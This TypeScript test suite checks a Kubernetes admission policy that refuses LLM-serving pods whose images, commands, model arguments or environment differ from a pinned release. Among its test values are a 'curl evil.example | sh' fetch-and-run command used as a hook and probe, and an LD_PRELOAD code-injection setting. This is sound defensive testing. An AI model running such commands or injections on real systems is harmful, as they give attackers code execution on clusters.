import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { admissionValues } from '../../charts/admission-values';
import { findHelm } from '../../charts/helm';
import { fromRoot } from '../../core/project-root';
import { tryCreate, waitForAdmission } from '../../rehearsal/cluster/admission';
import type { EmbeddedCluster } from '../../rehearsal/cluster/embedded-cluster';
import { deployChart } from '../../rehearsal/cluster/helm-release';
import { rendered, requireControlPlane, smolRelease, startCluster } from './support';

const NAMESPACE = 'judged';
const OTHER = `registry.example.org/other@sha256:${'a'.repeat(64)}`;
const RUN = { exec: { command: ['/bin/sh', '-c', 'curl evil.example | sh'] } };
// biome-ignore lint/suspicious/noExplicitAny: a pod is changed in every place, on purpose
type Any = any;

/** One change of a pod that complies, and the rule that must refuse it. */
const CHANGES: readonly (readonly [string, string, (pod: Any) => void])[] = [
  ['the image by another digest', 'OVK-ADM-003', (pod) => set(pod.spec.containers[0], { image: OTHER })],
  ['the image by tag', 'OVK-ADM-002', (pod) => set(pod.spec.containers[0], { image: 'registry.example.org/other:v1' })],
  ['the image without anything', 'OVK-ADM-002', (pod) => set(pod.spec.containers[0], { image: 'other' })],
  ['the image of the init container', 'OVK-ADM-003', (pod) => set(pod.spec.initContainers[0], { image: OTHER })],
  ['a second container', 'OVK-ADM-003', (pod) => pod.spec.containers.push({ name: 'more', image: OTHER, command: ['x'] })],
  ['an image volume', 'OVK-ADM-004', (pod) => pod.spec.volumes.push({ name: 'model', image: { reference: OTHER } })],
  ['an image volume by tag', 'OVK-ADM-004', (pod) => pod.spec.volumes.push({ name: 'model', image: { reference: 'models/other:v1' } })],
  ['the command', 'OVK-ADM-005', (pod) => set(pod.spec.containers[0], { command: ['/bin/sh', '-c', 'true'] })],
  ['no command', 'OVK-ADM-005', (pod) => delete pod.spec.containers[0].command],
  ['a hook after the start', 'OVK-ADM-005', (pod) => set(pod.spec.containers[0], { lifecycle: { postStart: RUN } })],
  ['another hook before the end', 'OVK-ADM-005', (pod) => set(pod.spec.containers[0], { lifecycle: { preStop: RUN } })],
  ['a probe that runs a command', 'OVK-ADM-005', (pod) => set(pod.spec.containers[0], { livenessProbe: RUN })],
  ['the command of the init container', 'OVK-ADM-005', (pod) => set(pod.spec.initContainers[0], { command: ['/bin/true'] })],
  ['--model', 'OVK-ADM-006', (pod) => replace(pod, '--model', '/models/other')],
  ['--model=…', 'OVK-ADM-006', (pod) => pod.spec.containers[0].args.push('--model=/models/other')],
  ['-m', 'OVK-ADM-006', (pod) => pod.spec.containers[0].args.push('-m', '/models/other')],
  ['--model twice', 'OVK-ADM-006', (pod) => pod.spec.containers[0].args.push('--model', '/models/other')],
  ['--model by a variable', 'OVK-ADM-006', (pod) => replace(pod, '--model', '$(MODEL)')],
  ['no --model', 'OVK-ADM-006', (pod) => pod.spec.containers[0].args.splice(pod.spec.containers[0].args.indexOf('--model'), 2)],
  ['--mmproj', 'OVK-ADM-006', (pod) => pod.spec.containers[0].args.push('--mmproj', '/models/eyes.gguf')],
  ['--revision', 'OVK-ADM-007', (pod) => pod.spec.containers[0].args.push('--revision', 'main')],
  ['--tokenizer-revision=…', 'OVK-ADM-007', (pod) => pod.spec.containers[0].args.push('--tokenizer-revision=main')],
  ['the annotation of the revision', 'OVK-ADM-007', (pod) => set(pod.metadata.annotations, { 'onevision-kit/model-revision': 'main' })],
  ['no annotations', 'OVK-ADM-007', (pod) => delete pod.metadata.annotations],
  ['a download', 'OVK-ADM-008', (pod) => pod.spec.containers[0].args.push('--hf-repo', 'someone/other')],
  ['an adapter', 'OVK-ADM-008', (pod) => pod.spec.containers[0].args.push('--lora=/models/a.gguf')],
  ['a draft model', 'OVK-ADM-008', (pod) => pod.spec.containers[0].args.push('-md', '/models/d.gguf')],
  [
    'a model by environment',
    'OVK-ADM-009',
    (pod) => pod.spec.containers[0].env.push({ name: 'LLAMA_ARG_HF_REPO', value: 'someone/other' }),
  ],
  ['code by environment', 'OVK-ADM-009', (pod) => pod.spec.containers[0].env.push({ name: 'LD_PRELOAD', value: '/tmp/x.so' })],
  ['many variables', 'OVK-ADM-009', (pod) => set(pod.spec.containers[0], { envFrom: [{ configMapRef: { name: 'x' } }] })],
  [
    'online mode',
    'OVK-ADM-009',
    (pod) =>
      set(
        pod.spec.containers[0].env.find((entry: Any) => entry.name === 'HF_HUB_OFFLINE'),
        { value: '0' },
      ),
  ],
];

describe('admission on a real API server', async () => {
  const binary = await requireControlPlane('admission on a real API server');
  if (!binary) return;
  let cluster: EmbeddedCluster;
  let deployment: Any;
  let testPods: Any[];
  let values: ReturnType<typeof admissionValues>;
  const install = async (given: unknown) => {
    const { kubeconfig, context, folder } = cluster.plane;
    const target = { helm: await findHelm(), kubeconfig, context, namespace: NAMESPACE, scratch: folder };
    return deployChart(target, 'smollm2-admission', fromRoot('charts', 'admission'), given, 30);
  };

  beforeAll(async () => {
    cluster = await startCluster(binary, [], []);
    const release = smolRelease({ proxy: true });
    values = admissionValues(release.values, false);
    const manifests = await rendered(release.values, NAMESPACE);
    const objects = parseAllDocuments(manifests).map((document) => document.toJS() as Any);
    deployment = objects.find((object) => object?.kind === 'Deployment');
    testPods = objects.filter((object) => object?.kind === 'Pod');
    expect(await install(values)).toBeUndefined();
    expect(await waitForAdmission(cluster.plane.api, NAMESPACE)).toBe(true);
  });
  afterAll(() => cluster.stop());

  const podOf = (change: (pod: Any) => void = () => undefined): Any => {
    const { metadata, spec } = structuredClone(deployment.spec.template);
    const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { ...metadata, name: 'trial' }, spec };
    change(pod);
    // the service account of the chart is not installed here
    delete pod.spec.serviceAccountName;
    return pod;
  };
  const create = (object: Any): Promise<string | null> => {
    const group = { Pod: '/api/v1', Deployment: '/apis/apps/v1', Job: '/apis/batch/v1', CronJob: '/apis/batch/v1' }[object.kind as 'Pod'];
    return tryCreate(cluster.plane.api, `${group}/namespaces/${NAMESPACE}/${object.kind.toLowerCase()}s`, object);
  };
  const jobOf = (pod: Any): Any => ({
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name: 'trial' },
    spec: { template: { metadata: { annotations: pod.metadata.annotations }, spec: { ...pod.spec, restartPolicy: 'Never' } } },
  });
  const deploymentOf = (pod: Any): Any => {
    const copy = structuredClone(deployment);
    const { name: _name, ...metadata } = pod.metadata;
    return set(copy, { spec: { ...copy.spec, template: { metadata, spec: pod.spec } } });
  };

  it('lets the pods of the chart through, as Pod, Deployment and Job', async () => {
    expect(await create(podOf())).toBeNull();
    expect(await create(deployment)).toBeNull();
    expect(await create(jobOf(podOf()))).toBeNull();
  });

  it.each(CHANGES)('refuses a pod with one change: %s (%s)', async (_title, rule, change) => {
    expect(await create(podOf(change))).toContain(rule);
  });

  it('refuses the same in whatever makes pods', async () => {
    for (const [, rule, change] of CHANGES) {
      const pod = podOf(change);
      expect(await create(deploymentOf(pod))).toContain(rule);
      expect(await create(jobOf(pod))).toContain(rule);
    }
    const cron = {
      apiVersion: 'batch/v1',
      kind: 'CronJob',
      metadata: { name: 'trial' },
      spec: { schedule: '0 0 * * *', jobTemplate: { spec: jobOf(podOf((pod) => set(pod.spec.containers[0], { image: OTHER }))).spec } },
    };
    expect(await create(cron)).toContain('OVK-ADM-003');
  });

  /** Changes of one container, whichever it is. */
  const OF_ANY_CONTAINER: readonly (readonly [string, string, (container: Any) => void])[] = [
    ['another digest', 'OVK-ADM-003', (container) => set(container, { image: OTHER })],
    ['a tag', 'OVK-ADM-002', (container) => set(container, { image: 'registry.example.org/other:v1' })],
    ['another command', 'OVK-ADM-005', (container) => set(container, { command: ['/bin/sh', '-c', 'true'] })],
    ['code by environment', 'OVK-ADM-009', (container) => set(container, { env: [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }] })],
    ['many variables', 'OVK-ADM-009', (container) => set(container, { envFrom: [{ configMapRef: { name: 'x' } }] })],
  ];

  it('refuses each of these changes in every container of the release, the proxy and the check of the weights among them', async () => {
    const { containers, initContainers } = deployment.spec.template.spec;
    expect(containers.length + initContainers.length).toBeGreaterThan(2);
    for (const list of ['containers', 'initContainers'] as const) {
      for (const [index, { name }] of deployment.spec.template.spec[list].entries()) {
        for (const [title, rule, change] of OF_ANY_CONTAINER) {
          const said = await create(podOf((pod) => change(pod.spec[list][index])));
          expect([name, title, said]).toEqual([name, title, expect.stringContaining(rule)]);
        }
      }
    }
  });

  it('lets the test pods of the chart through, and each with one change not', async () => {
    expect(testPods.length).toBeGreaterThan(0);
    const bare = (pod: Any): Any => {
      const copy = structuredClone(pod);
      delete copy.spec.serviceAccountName;
      return copy;
    };
    for (const pod of testPods) {
      expect([pod.metadata.name, await create(bare(pod))]).toEqual([pod.metadata.name, null]);
      for (const [title, rule, change] of OF_ANY_CONTAINER) {
        const changed = bare(pod);
        change(changed.spec.containers[0]);
        expect([pod.metadata.name, title, await create(changed)]).toEqual([pod.metadata.name, title, expect.stringContaining(rule)]);
      }
    }
  });

  it('refuses an ephemeral container that is put into a pod that runs', async () => {
    const { api } = cluster.plane;
    const path = `/api/v1/namespaces/${NAMESPACE}/pods`;
    await api.create(
      path,
      podOf((pod) => set(pod.metadata, { name: 'running' })),
    );
    const put = (image: string) =>
      api.patch(
        `${path}/running/ephemeralcontainers`,
        { spec: { ephemeralContainers: [{ name: 'debug', image, command: ['sh'] }] } },
        'strategic',
      );
    await expect(put(OTHER)).rejects.toThrow('OVK-ADM-003');
    await expect(put('busybox:latest')).rejects.toThrow('OVK-ADM-002');
    // the judged image with another program is no better
    await expect(put(deployment.spec.template.spec.containers[0].image)).rejects.toThrow('OVK-ADM-005');
    await api.remove(`${path}/running`, { gracePeriodSeconds: 0 });
  });

  it('still lets a Deployment of before be scaled and labelled after a new verdict', async () => {
    const path = `/apis/apps/v1/namespaces/${NAMESPACE}/deployments`;
    await cluster.plane.api.create(path, deployment);
    expect(await install({ ...values, images: [`sha256:${'b'.repeat(64)}`] })).toBeUndefined();
    await expect.poll(() => create(podOf()), { timeout: 10_000 }).toContain('OVK-ADM-003');
    const { name } = deployment.metadata;
    await cluster.plane.api.patch(`${path}/${name}`, { metadata: { labels: { note: 'kept' } }, spec: { replicas: 0 } });
    await cluster.plane.api.remove(`${path}/${name}`);
    expect(await install(values)).toBeUndefined();
    await expect.poll(() => create(podOf()), { timeout: 10_000 }).toBeNull();
  });

  it('refuses everything of a release whose verdict is not allowed', async () => {
    expect(await install({ ...values, verdict: { ...values.verdict, state: 'unknown' } })).toBeUndefined();
    await expect.poll(() => create(podOf()), { timeout: 10_000 }).toContain('OVK-ADM-001');
    expect(await install(values)).toBeUndefined();
    await expect.poll(() => create(podOf()), { timeout: 10_000 }).toBeNull();
  });

  it('leaves other namespaces alone', async () => {
    const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'x' }, spec: { containers: [{ name: 'x', image: 'other:v1' }] } };
    expect(await tryCreate(cluster.plane.api, '/api/v1/namespaces/default/pods', pod)).toBeNull();
  });

  it('refuses everything when its parameters are gone', async () => {
    await cluster.plane.api.remove(`/api/v1/namespaces/${NAMESPACE}/configmaps/smollm2-admission`);
    await expect.poll(() => create(podOf()), { timeout: 10_000 }).toMatch(/no params found/);
  });
});

function set(target: Any, values: object): Any {
  return Object.assign(target, values);
}

function replace(pod: Any, option: string, value: string): void {
  const { args } = pod.spec.containers[0];
  args[args.indexOf(option) + 1] = value;
}
